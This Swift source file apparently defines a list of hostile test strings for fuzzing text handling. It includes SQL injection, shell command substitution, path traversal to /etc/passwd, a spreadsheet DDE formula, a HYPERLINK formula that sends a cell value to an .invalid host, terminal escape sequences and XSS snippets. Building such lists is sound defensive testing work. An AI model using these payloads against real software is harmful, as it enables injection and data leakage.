/// Texts that break programs: quotes, shell and SQL, spreadsheet formulas, terminal sequences,
/// bidirectional marks, combining characters, markup, long lines.
enum HostileText {
  static let payloads: [String] = plain + formulas + terminal + unicode + markup

  private static let plain = [
    "", " ", "'", "\"", "a,b", "say \"x\"", "line1\nline2", "cr\rx", "crlf\r\nx", "tab\tx",
    "';drop table e;--", "' or '1'='1", "\\", "\\u0041", "\\\"", "%s%n%x", "$(touch pwned)", "`id`",
    "-v", "--help", "--", "-1", "0", "NULL", "null", "nan", "1e999", "../../etc/passwd",
    "/dev/stdin", "a/b\u{1}", "a\u{0}b", "\u{0}", String(repeating: "x", count: 10_000),
  ]

  private static let formulas = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|'/c calc'!A1", "\t=1+1", "\r=1+1", " =1+1",
    "=HYPERLINK(\"http://x.invalid/?\"&A1)", "＝1+1", ";=1+1", "\",\"=1+1",
  ]

  private static let terminal = [
    "\u{1B}[2J\u{1B}[H", "\u{1B}]0;title\u{7}", "\u{1B}]52;c;cHduZWQ=\u{7}",
    "\u{1B}]8;;http://x.invalid\u{1B}\\link\u{1B}]8;;\u{1B}\\", "\u{1B}[6n", "\u{1B}P+q\u{1B}\\",
    "\u{1B}c", "\u{9B}2J", "\u{9D}0;t\u{9C}", "\u{7}", "\u{8}\u{8}ok", "\u{7F}", "\u{B}\u{C}",
  ]

  private static let unicode = [
    "\u{202E}evil", "\u{2066}x\u{2069}", "\u{200B}", "\u{FEFF}bom", "e\u{301}", "é", "ﷺ",
    "👩‍👩‍👧‍👦", "眼瞼痙攣", "ا", String(repeating: "😀", count: 50),
    "a" + String(repeating: "\u{300}", count: 500), "\u{2028}", "\u{2029}", "\u{85}", "\u{FFFD}",
    "\u{FFFF}", "\u{10FFFF}", "\u{E000}",
  ]

  private static let markup = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
    "&lt;b&gt;", "</style><svg onload=1>", "{{7*7}}", "]]>",
  ]
}
